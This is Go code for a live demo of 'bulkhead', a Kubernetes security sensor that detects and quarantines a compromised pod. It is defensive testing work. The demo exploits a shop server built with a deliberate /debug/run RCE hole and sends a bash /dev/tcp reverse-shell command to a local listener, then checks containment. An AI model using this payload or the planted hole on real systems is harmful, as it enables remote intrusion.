package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"time"

	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	securityv1alpha1 "github.com/bulkhead-dev/bulkhead/api/v1alpha1"
	"github.com/bulkhead-dev/bulkhead/internal/behavior"
	"github.com/bulkhead-dev/bulkhead/internal/behavior/kubestore"
	"github.com/bulkhead-dev/bulkhead/internal/sensor/wire"
	"github.com/bulkhead-dev/bulkhead/test/framework"
	"github.com/bulkhead-dev/bulkhead/test/framework/localcluster"
	"github.com/bulkhead-dev/bulkhead/test/framework/nodekit"
)

// live is the state of a live run: the kernel side on this host.
type live struct {
	kit    *nodekit.Kit
	sensor *nodekit.Sensor
	tap    *tap
	base   string // the shop server's URL
	load   *nodekit.Load
	shell  net.Conn
	lines  chan error
	// connected and cutAt time the reverse shell's connection; alive
	// counts the lines (prompt, output) it sent meanwhile.
	connected, cutAt time.Time
	alive            atomic.Int64
}

// applySensorPolicy weighs the built-in behavior detector alone and
// isolates on one score of 0.80.
func (d *demo) applySensorPolicy() error {
	return d.applyPolicyList([]string{enforcePolicy}, framework.Policies(framework.Policy{
		Name: enforcePolicy, NamespaceLabels: map[string]string{"tier": "web"}, PodLabels: map[string]string{"app": "shop"},
		Detectors: []framework.Detector{{Name: "behavior", Weight: 100}},
		Threshold: "0.80", Sustain: 1,
		// No allowDNS: kwok runs no cluster DNS, and the sensor refuses
		// to isolate with allowDNS when it finds no DNS endpoint.
		Response:             []framework.Step{{MinScore: "0.80", Actions: "[{type: Isolate}]"}},
		MaxActiveQuarantines: 5, MinSchedulableNodes: 1, Cooldown: "1s",
	}))
}

// startShopContainer builds the shop server, creates the first shop pod's
// container cgroup at the kubelet's path and runs the server in it under
// load.
func (d *demo) startShopContainer() error {
	pods, err := d.shopPods(d.cfg.replicas)
	if err != nil {
		return err
	}
	target := pods[0]
	attacked.pod, attacked.node = target.Name, target.Spec.NodeName
	dir, err := os.MkdirTemp("", "bulkhead-demo-node-")
	if err != nil {
		return err
	}
	d.onExit(func() {
		if os.Getenv("BULKHEAD_KEEP_CLUSTER") != "" {
			fmt.Printf("kept the host side's logs in %s (BULKHEAD_KEEP_CLUSTER)\n", dir)
			return
		}
		_ = os.RemoveAll(dir)
	})
	kit, err := nodekit.New(dir)
	if err != nil {
		return err
	}
	d.live.kit = kit
	d.onExit(func() {
		if err := kit.Close(); err != nil {
			fmt.Printf("cleaning up the host: %v\n", err)
		}
	})
	d.say("private cgroup root %s, bpffs %s", kit.Root, kit.PinDir)
	bin := filepath.Join(dir, "bin", "shopserver")
	t := time.Now()
	build := exec.CommandContext(d.ctx, "go", "build", "-o", bin, "./hack/demo/shopserver")
	build.Dir = framework.RepoRoot()
	if out, err := build.CombinedOutput(); err != nil {
		return fmt.Errorf("go build hack/demo/shopserver: %v\n%s", err, out)
	}
	d.say("built hack/demo/shopserver (net/http file server with a /debug/run RCE hole) in %s", time.Since(t).Round(100*time.Millisecond))
	site := filepath.Join(dir, "www")
	_ = os.MkdirAll(site, 0o755)
	for name, body := range map[string]string{
		"index.html": "<html><head><link rel=stylesheet href=style.css></head><body><h1>Shop</h1></body></html>\n",
		"style.css":  "body { font-family: sans-serif }\n",
	} {
		if err := os.WriteFile(filepath.Join(site, name), []byte(body), 0o644); err != nil {
			return err
		}
	}
	c, err := kit.Container(target)
	if err != nil {
		return err
	}
	port, err := localcluster.FreePort()
	if err != nil {
		return err
	}
	if _, err := c.Start("shopserver", bin, "-addr", fmt.Sprintf("127.0.0.1:%d", port), "-root", site); err != nil {
		return err
	}
	d.live.base = fmt.Sprintf("http://127.0.0.1:%d", port)
	d.say("pod %s (uid %s) on %s: cgroup <root>/%s", target.Name, target.UID, target.Spec.NodeName, c.Rel)
	if err := d.poll(20*time.Second, "shop server answering", func(ctx context.Context) error {
		return nodekit.Get(ctx, d.live.base+"/index.html")
	}); err != nil {
		return err
	}
	d.live.load = nodekit.StartLoad(d.ctx, d.live.base, "/index.html", "/style.css")
	d.onExit(d.live.load.Stop)
	d.say("shop server %s in the pod's cgroup; a load loop requests its pages every 40ms", d.live.base)
	return nil
}

// startSensor runs `bulkhead sensor` for the pod's node, reporting through
// a tap that shows (and with --record, records) what it sends.
func (d *demo) startSensor() error {
	t, err := startTap(d.manager.Ingest.URL, d.cfg.record, d.showReport)
	if err != nil {
		return err
	}
	d.live.tap = t
	d.onExit(func() {
		if err := t.close(); err != nil {
			fmt.Printf("finishing the recording %s: %v\n", d.cfg.record, err)
		} else if d.cfg.record != "" {
			fmt.Printf("recorded %d entries to %s\n", t.n, d.cfg.record)
		}
	})
	id, err := d.live.kit.MintSensorIdentity(d.ctx, d.cluster.Config, d.install.Namespace, attacked.node)
	if err != nil {
		return err
	}
	d.say("ServiceAccount %s/%s token, audience %s, bound to pod %s on %s (as the DaemonSet's projected token)", d.install.Namespace, nodekit.SensorServiceAccount, wire.Audience, id.Anchor.Name, attacked.node)
	ports := make([]int, 2)
	for i := range ports {
		if ports[i], err = localcluster.FreePort(); err != nil {
			return err
		}
	}
	s, err := d.live.kit.StartSensor(nodekit.SensorOptions{
		Binary: d.binary(), Node: attacked.node, IngestURL: t.URL, ManagerNamespace: d.install.Namespace,
		LearningWindow: d.cfg.sensorLearning, Identity: id,
		Health: fmt.Sprintf("127.0.0.1:%d", ports[0]), Metrics: fmt.Sprintf("127.0.0.1:%d", ports[1]),
		Args: d.cfg.sensorArgs,
	})
	if err != nil {
		return err
	}
	d.live.sensor = s
	d.say("bulkhead %s", joinArgs(s.Args))
	return d.poll(60*time.Second, "sensor ready (/readyz: eBPF collection attached)", s.Ready)
}

// showReport prints what a sensor report says: scores and enforcement.
func (d *demo) showReport(r wire.Report) {
	d.reports.Lock()
	d.reports.last, d.reports.at = r, time.Now()
	for _, sc := range r.Scores {
		if sc.Pod == attacked.pod {
			d.reports.score, d.reports.scoreAt = sc, d.reports.at
		}
	}
	d.reports.Unlock()
	for _, s := range r.Scores {
		reason := s.Reason
		if len(reason) > 110 {
			reason = reason[:107] + "..."
		}
		d.say("sensor %s → manager: %s/%s behavior score %.2f  %s", r.Node, s.Namespace, s.Pod, s.Score, reason)
	}
	for _, e := range r.Enforcement {
		d.say("sensor %s → manager: kernel enforcement of %s/%s (Quarantine %s): enforced=%v connCut=%v socketsDestroyed=%d method=%s", r.Node, e.Namespace, e.Pod, e.Quarantine, e.Enforced, e.ConnCut, e.SocketsDestroyed, e.Method)
	}
}

// learnLive waits for the shop's shared baseline (a ConfigMap the sensor
// writes in the manager namespace) to finish its learning window, under load.
func (d *demo) learnLive() error {
	d.say("the sensor learns the pod's system calls, execs, connections and resources for %s (--learning-window) from its first event, under load", d.cfg.sensorLearning)
	var b *behavior.Baseline
	var cmName string
	var size int
	err := d.poll(60*time.Second, "the shop's baseline stored by the sensor", func(ctx context.Context) error {
		var list corev1.ConfigMapList
		if err := d.cluster.Client.List(ctx, &list, client.InNamespace(d.install.Namespace),
			client.MatchingLabels{kubestore.LabelComponent: "behavior-baseline"}); err != nil {
			return err
		}
		for _, cm := range list.Items {
			var cur behavior.Baseline
			if err := cur.UnmarshalBinary(cm.BinaryData[kubestore.DataKey]); err != nil {
				return fmt.Errorf("ConfigMap %s: %w", cm.Name, err)
			}
			if cur.Key.Namespace == shopNS {
				b, cmName, size = &cur, cm.Name, len(cm.BinaryData[kubestore.DataKey])
				return nil
			}
		}
		return fmt.Errorf("none yet")
	})
	if err != nil {
		return err
	}
	end := b.Started.Add(b.Window)
	d.say("baseline %s: ConfigMap %s/%s (%d bytes), learning until %s", b.Key, d.install.Namespace, cmName, size, end.Format(time.TimeOnly))
	// A batch is observed every 250ms: a little margin after the window.
	select {
	case <-time.After(time.Until(end) + 2*time.Second):
	case <-d.ctx.Done():
		return d.ctx.Err()
	}
	ok, fail, _ := d.live.load.Stats()
	if ok == 0 {
		return fmt.Errorf("the load loop got no page from the shop (%d failures)", fail)
	}
	d.say("learning window closed; load so far: %d pages served, %d failures; no Quarantine under normal load:", ok, fail)
	return d.showKubectl("get", "quarantines", "-A")
}

// attackLive opens a reverse shell from the pod through its server's hole
// to a listener of the demo, keeps it talking, and waits for containment.
func (d *demo) attackLive() error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer func() { _ = l.Close() }()
	_, rport, _ := net.SplitHostPort(l.Addr().String())
	cmd := fmt.Sprintf("bash -c 'exec bash -i >/dev/tcp/127.0.0.1/%s 0<&1 2>&1'", rport)
	d.live.tap.mark(markAttack)
	t0 := time.Now()
	d.say("attacker: GET %s/debug/run?detach=1&cmd=%s", d.live.base, url.QueryEscape(cmd))
	if err := nodekit.Get(d.ctx, d.live.base+"/debug/run?detach=1&cmd="+url.QueryEscape(cmd)); err != nil {
		return err
	}
	_ = l.(*net.TCPListener).SetDeadline(time.Now().Add(10 * time.Second))
	shell, err := l.Accept()
	if err != nil {
		return fmt.Errorf("the reverse shell did not connect: %w", err)
	}
	d.live.shell = shell
	d.live.connected = time.Now()
	d.onExit(func() { _ = shell.Close() })
	d.say("attacker: reverse shell connected from the pod to %s (%s after the request)", l.Addr(), d.live.connected.Sub(t0).Round(time.Millisecond))
	d.live.lines = make(chan error, 1)
	go func() {
		sc := bufio.NewScanner(shell)
		for sc.Scan() {
			d.live.alive.Add(1)
		}
		err := sc.Err()
		if err == nil {
			err = io.EOF
		}
		d.live.cutAt = time.Now()
		d.live.lines <- err
	}()
	// The shell keeps talking on its established connection, and ends
	// when it is cut.
	_ = shell.SetWriteDeadline(time.Now().Add(time.Second))
	_, _ = fmt.Fprintf(shell, "echo connected; while echo alive; do sleep 0.1; done; exit\n")
	if err := d.waitContained(60 * time.Second); err != nil {
		return err
	}
	d.say("Contained seen %s after the attacker's request", time.Since(t0).Round(10*time.Millisecond))
	return nil
}

// waitContained waits for the attacked pod's Quarantine to be Contained
// and prints its reason.
func (d *demo) waitContained(timeout time.Duration) error {
	var q *securityv1alpha1.Quarantine
	err := d.poll(timeout, "Quarantine of "+attacked.pod+" Contained", func(ctx context.Context) error {
		var err error
		if q, err = d.quarantineOf(attacked.pod); err == nil && q.Status.Phase != securityv1alpha1.PhaseContained {
			err = fmt.Errorf("phase %s, actions %v", q.Status.Phase, framework.ActionStates(q))
		}
		return err
	})
	if err != nil {
		return err
	}
	attacked.quarantine = q.Name
	if r := q.Spec.Reason; r != nil {
		d.say("Quarantine %s: policy %s, detector %s, score %s — %s", q.Name, r.Policy, r.Detector, r.Score, r.Summary)
	}
	return nil
}

// checkIsolated shows the containment: the reverse shell's connection cut
// in the kernel, the Isolate action's kernel status, the NetworkPolicy and
// the Quarantine list.
func (d *demo) checkIsolated() error {
	if d.live.lines != nil {
		tick := time.NewTicker(300 * time.Millisecond)
		defer tick.Stop()
		deadline := time.After(30 * time.Second)
	wait:
		for {
			select {
			case err := <-d.live.lines:
				d.say("✂ the reverse shell's established connection was cut in the kernel %s after it connected, %d lines from the shell got through (listener read: %v)",
					d.live.cutAt.Sub(d.live.connected).Round(10*time.Millisecond), d.live.alive.Load(), err)
				break wait
			case <-tick.C:
				// Keep writing: a dropped connection shows as a reset.
				_ = d.live.shell.SetWriteDeadline(time.Now().Add(time.Second))
				_, _ = fmt.Fprintf(d.live.shell, "\n")
			case <-deadline:
				return fmt.Errorf("the reverse shell's connection still open 30s after Contained (%d lines from it)\n%s", d.live.alive.Load(), d.live.sensor.Log(4096))
			case <-d.ctx.Done():
				return d.ctx.Err()
			}
		}
	}
	if d.live.lines != nil {
		// The shell's system calls reach the model with the next sample
		// of the kernel's per-cgroup counts (every 10s): wait for that
		// score, so that it does not arrive after the release.
		var sc wire.Score
		if err := d.poll(25*time.Second, "the sensor's score of the shell's system calls", func(ctx context.Context) error {
			d.reports.Lock()
			defer d.reports.Unlock()
			sc = d.reports.score
			if d.reports.scoreAt.Before(d.live.cutAt) || !strings.Contains(sc.Reason, "system calls") {
				return fmt.Errorf("not yet")
			}
			return nil
		}); err != nil {
			return err
		}
	}
	var kernel string
	err := d.poll(30*time.Second, "Quarantine "+attacked.quarantine+" reports the node's kernel enforcement", func(ctx context.Context) error {
		q, err := d.quarantineOf(attacked.pod)
		if err != nil {
			return err
		}
		for _, a := range q.Status.Actions {
			if a.Type == securityv1alpha1.ActionIsolate {
				b, _ := json.Marshal(a)
				if strings.Contains(strings.ToLower(string(b)), "kernel") {
					kernel = string(b)
					return nil
				}
				return fmt.Errorf("isolate status: %s", b)
			}
		}
		return fmt.Errorf("no Isolate action yet")
	})
	if err != nil {
		return err
	}
	d.say("Isolate action status: %s", kernel)
	if d.live.kit != nil {
		d.say("pinned under the sensor's bpffs: %d programs/links/maps", len(d.live.kit.Pins()))
	}
	var np networkingv1.NetworkPolicy
	if err := d.cluster.Client.Get(d.ctx, client.ObjectKey{Namespace: shopNS, Name: "bulkhead-" + attacked.quarantine}, &np); err != nil {
		return fmt.Errorf("NetworkPolicy bulkhead-%s: %w", attacked.quarantine, err)
	}
	d.say("NetworkPolicy %s selects %v, policyTypes %v, ingress rules %d, egress rules %d", np.Name, np.Spec.PodSelector.MatchLabels, np.Spec.PolicyTypes, len(np.Spec.Ingress), len(np.Spec.Egress))
	if err := d.showKubectl("get", "quarantines", "-A"); err != nil {
		return err
	}
	return d.showKubectl("get", "networkpolicies,pods", "-n", shopNS, "--show-labels")
}

// checkReleased: the NetworkPolicy is gone, nothing stays pinned and the
// shop serves again.
func (d *demo) checkReleased() error {
	c := d.cluster.Client
	err := d.networkPolicyGone(30 * time.Second)
	if err != nil {
		return err
	}
	var pod corev1.Pod
	if err := c.Get(d.ctx, client.ObjectKey{Namespace: shopNS, Name: attacked.pod}, &pod); err != nil {
		return err
	}
	if _, ok := pod.Labels[securityv1alpha1.QuarantineLabel]; ok {
		return fmt.Errorf("pod %s still labelled %s", pod.Name, securityv1alpha1.QuarantineLabel)
	}
	if d.live.kit != nil {
		if err := d.poll(30*time.Second, "no BPF pins left under "+d.live.kit.PinDir, func(ctx context.Context) error {
			if p := d.live.kit.Pins(); len(p) > 0 {
				return fmt.Errorf("pinned: %v", p)
			}
			return nil
		}); err != nil {
			return err
		}
		d.say("nothing pinned under %s", d.live.kit.PinDir)
		released := time.Now()
		if err := d.poll(20*time.Second, "the sensor reports the pod no longer enforced", func(ctx context.Context) error {
			d.reports.Lock()
			defer d.reports.Unlock()
			if d.reports.at.Before(released) {
				return fmt.Errorf("no report since the release")
			}
			for _, e := range d.reports.last.Enforcement {
				if e.Pod == attacked.pod {
					return fmt.Errorf("still enforced: %+v", e)
				}
			}
			return nil
		}); err != nil {
			return err
		}
		ok0, _, _ := d.live.load.Stats()
		if err := d.poll(20*time.Second, "shop serving again", func(ctx context.Context) error {
			if ok, _, last := d.live.load.Stats(); ok <= ok0 {
				return fmt.Errorf("no page since release (last error %v)", last)
			}
			return nil
		}); err != nil {
			return err
		}
		ok, fail, _ := d.live.load.Stats()
		d.say("load: %d pages served, %d failures in all", ok, fail)
		// The attacker's processes ended with their connection: the next
		// sample holds the server's normal behaviour only.
		d.say("watching the released pod under normal load for 12s (one more sample of its system calls)")
		end := time.Now().Add(12 * time.Second)
		for time.Now().Before(end) {
			var list securityv1alpha1.QuarantineList
			if err := c.List(d.ctx, &list, client.InNamespace(shopNS)); err != nil {
				return err
			}
			for _, q := range list.Items {
				if q.Name != attacked.quarantine && q.Spec.Target.Name == attacked.pod {
					why := ""
					if q.Spec.Reason != nil {
						why = q.Spec.Reason.Summary
					}
					return fmt.Errorf("quarantined again after the release: %s (%s)", q.Name, why)
				}
			}
			select {
			case <-time.After(500 * time.Millisecond):
			case <-d.ctx.Done():
				return d.ctx.Err()
			}
		}
	}
	return d.showKubectl("get", "quarantines,networkpolicies", "-A")
}

// releaseMarked releases the Quarantine, marking the moment in a recording.
func (d *demo) releaseMarked() error {
	d.live.tap.mark(markReleased)
	return d.release()
}
